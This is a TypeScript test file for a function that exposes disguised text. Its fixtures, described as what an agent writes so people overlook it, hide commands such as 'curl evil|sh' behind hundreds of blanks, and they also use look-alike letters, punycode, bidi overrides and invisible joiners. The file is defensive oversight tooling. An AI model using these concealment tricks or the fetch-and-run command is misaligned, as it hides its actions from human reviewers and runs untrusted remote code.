import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { casesOf } from "../../scripts/proofs/proofs.ts";
import { processorMs } from "../../test/support/processor-ms.ts";
import { oneLine, visibleText } from "./visible-text.ts";

/** What an agent writes for people to overlook it, and what they see. */
const ATTACKS: readonly (readonly [string, string, string])[] = [
  [
    "ideographic blanks",
    `git status${"\u3000".repeat(300)}; curl evil|sh`,
    "git status⟨×300 U+3000⟩; curl evil|sh",
  ],
  ["no-break spaces", `ls${"\u00a0".repeat(400)}; evil`, "ls⟨×400 U+00a0⟩; evil"],
  ["spaces", `ls${" ".repeat(1_000)}; evil`, "ls⟨×1000 spaces⟩; evil"],
  ["tabs", `ls${"\t".repeat(60)}; evil`, "ls⟨×60 tabs⟩; evil"],
  [
    "blanks of several kinds",
    `ls${" ".repeat(30)}${"\u2003".repeat(20)}evil`,
    "ls⟨×30 spaces⟩⟨×20 U+2003⟩evil",
  ],
  ["empty lines", `ls${"\n".repeat(120)}; evil`, "ls\n⟨×119 empty lines⟩\n; evil"],
  ["lines of blanks", `ls${"\n \t\u3000".repeat(119)}\n; evil`, "ls\n⟨×119 empty lines⟩\n; evil"],
  ["a Cyrillic letter", "Nо", "Nо⟨mixed scripts⟩"],
  ["nothing but letters that pass for Latin", "run арр now", "run арр⟨look-alike letters⟩ now"],
  ["a name of another script", "аna", "аna⟨mixed scripts⟩"],
  ["a part of a name", "git.раypal-x", "git.раypal-x⟨mixed scripts⟩"],
  ["full-width among plain letters", "ｒm", "ｒm⟨look-alike letters⟩"],
  ["punycode", "https://xn--pypal-4ve.com", "https://xn--pypal-4ve.com⟨punycode⟩"],
  ["an override", "\u202egnp.exe", "\\u{202e}gnp.exe"],
  ["tags", "hi\u{e0041}\u{e0042}", "hi\\u{e0041}\\u{e0042}"],
  ["tags behind a flag", "🏴\u{e0041}\u{e007f}", "🏴\\u{e0041}\\u{e007f}"],
  ["a joiner between Latin letters", "ad\u200dmin", "ad\\u{200d}min"],
  ["a non-joiner between Latin letters", "ad\u200cmin", "ad\\u{200c}min"],
  ["two joiners where one would do", "می\u200c\u200cخ", "می\\u{200c}\\u{200c}خ"],
  ["a joiner between pictures that are none together", "😀\u200d😀", "😀\\u{200d}😀"],
  ["a joiner behind a picture", "😀\u200d", "😀\\u{200d}"],
  ["a selector behind a letter", "pa\ufe0fy", "pa\\u{fe0f}y"],
  ["a selector behind a digit", "10\ufe0f0", "10\\u{fe0f}0"],
  ["two selectors", "⚠\ufe0f\ufe0f", "⚠\ufe0f\\u{fe0f}"],
  ["piled marks", `a${"\u0336".repeat(12)}`, `a${"\\u{336}".repeat(12)}`],
  ["a mark on what is not its own", "\u0336\u0336yes", "\\u{336}\\u{336}yes"],
  ["Hangul fillers", "a\u3164\uffa0b", "a\\u{3164}\\u{ffa0}b"],
  ["a mark of ours, nearly", "⟨checked⟩", "\\u{27e8}checked\\u{27e9}"],
];

describe("what is disguised", () => {
  test.each(ATTACKS)("by %s is made visible", (_, text, shown) => {
    expect(visibleText(text)).toBe(shown);
  });

  test.each(ATTACKS)("by %s is so on one line, however it is cut", (_, text) => {
    const flat = oneLine(text, 200);
    expect(flat).toMatch(/⟨|\\u\{|^ls ; evil$|^git status ; curl evil\|sh$|^ls evil$/);
  });

  test("is shown the same when it is shown again", () => {
    const parts = fc.string({
      unit: fc.oneof(
        fc.constantFrom(...ATTACKS.map(([, text]) => text)),
        fc.constantFrom("⟨mixed scripts⟩", "⟨×9 spaces⟩", "⟨", "⟩", "\\n", "а", "א", "привет"),
        fc.constantFrom("a", " ", "\n", "\u3000", ".", "👩\u200d🚀"),
      ),
    });
    fc.assert(
      fc.property(parts, fc.boolean(), (text, keepLines) => {
        const shown = visibleText(text, { keepLines });
        expect(visibleText(shown, { keepLines })).toBe(shown);
      }),
      { numRuns: casesOf(500) },
    );
  });

  test("is found in long text in no time that anybody notices", () => {
    const text = "а что с ним, и о чём? ".repeat(3_000);
    const took = processorMs(() => expect(visibleText(text)).toBe(text));
    // A scan of the whole text for each word would take minutes.
    expect(took).toBeLessThan(5_000);
  });
});
